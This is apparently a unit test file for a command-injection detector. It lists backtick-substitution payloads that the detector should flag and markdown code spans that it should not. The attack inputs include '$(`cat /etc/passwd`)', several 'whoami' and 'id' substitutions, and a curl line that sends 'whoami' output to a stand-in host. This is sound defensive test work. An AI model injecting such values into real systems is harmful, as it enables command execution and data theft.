import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { decodeValue } from '../../../src/threat/decode/normalize.js';
import { detectCmdi } from '../../../src/threat/detectors/cmdi.js';

const score = (s: string) => detectCmdi(decodeValue(s));

describe('a markdown code span set off as formatting is not a backtick substitution', () => {
  // substitutions glued to a value, after a separator, a quote, $( or a lone (, opening the value or a line
  const attacks = [
    '`id`', 'x`id`', ';`whoami`', 'a=`uname -a`', 'name=`id`', '$(`cat /etc/passwd`)', '"`id`"', '| `id`', '&& `id`', '||`ping -c 21 127.0.0.1` #',
    '(`id`)', '; (`id`)', 'x\n\n`id`', '-`id`', 'x - `id`', '; - `id`', ') `id`', '*`id`', 'x ** `id`', '## `id`x`whoami`',
    'curl http://e.example/x?user=\\`whoami\\`', '`/usr/bin/id`', '`ping 127.0.0.1`',
  ];
  for (const a of attacks) it(`flags ${JSON.stringify(a)}`, () => { const v = score(a); assert.ok(v.confidence >= 0.8, `${a}: ${JSON.stringify(v)}`); });
  const benign = [
    // a label's colon
    '- Clone the repo: `git clone https://github.com/twbs/bootstrap.git`',
    'you may be able to work around it by upgrading pip inside your virtualenv: `python -m pip install -U pip`',
    // closing emphasis
    '* `recursive` {boolean} **Default:** `false`\n* `callback` {Function}',
    '* **expires** `Date|number` (optional)\n* **maxAge** `number` (optional)',
    'Note that the system will _also_ `umask` them',
    // list bullets and headings at the start of their line
    '* `tools/*.py`\n* `*.gyp`\n* `configure`',
    '* To update from `upstream`:\n  * `git checkout main`\n  * `git fetch upstream HEAD`\n  * `git reset --hard FETCH_HEAD`',
    'Steps:\n1. `make clean`\n2) `make -j4 test`',
    '#### `umask`\n\n* Default: 0',
    '- `tests/playTests.sh --test-large-data`\n+ `kill -9 1234` stops it',
    // an opening parenthesis after a word
    '- Valgrind Test (`make -C tests test-valgrind`) (testing CLI and fuzzer under `valgrind`)',
  ];
  for (const b of benign) it(`does not flag ${JSON.stringify(b).slice(0, 70)}`, () => { const v = score(b); assert.ok(v.confidence < 0.8, `${b}: ${JSON.stringify(v)}`); });
});
